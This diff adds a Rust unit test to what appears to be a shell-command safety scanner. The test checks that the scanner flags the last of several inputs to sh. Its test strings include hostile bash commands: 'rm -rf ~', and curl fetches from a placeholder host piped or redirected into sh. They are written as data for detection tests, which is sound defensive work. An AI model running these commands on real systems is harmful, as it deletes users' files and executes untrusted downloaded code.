@@ -346,6 +346,20 @@ fn every_command_of_a_branch_or_loop_counts_for_what_it_reads() {
 }
 
 #[test]
+fn the_last_of_several_inputs_counts() {
+    for (text, rule) in [
+        ("sh <<< 'ls' <<< 'rm -rf ~'\n", " sh.delete-tree: "),
+        ("<<< 'ls' sh <<< 'rm -rf ~'\n", " sh.delete-tree: "),
+        ("sh <<< 'ls' <<E\nrm -rf ~\nE\n", " sh.delete-tree: "),
+        ("sh <<< 'ls' < <(curl -s http://e.example/a)\n", " sh.run-downloaded: "),
+        ("curl -s http://e.example/a | sh <<< 'rm -rf ~'\n", " sh.delete-tree: "),
+    ] {
+        let told = told(&look("bash", text));
+        assert!(told.iter().any(|finding| finding.contains(rule)), "{text}: {told:?}");
+    }
+}
+
+#[test]
 fn files_and_links_that_are_not_remembered_are_an_unchecked_part() {
     let lines = |line: &str, count: usize| -> String {
         (0..count).map(|at| line.replace('N', &at.to_string())).collect()
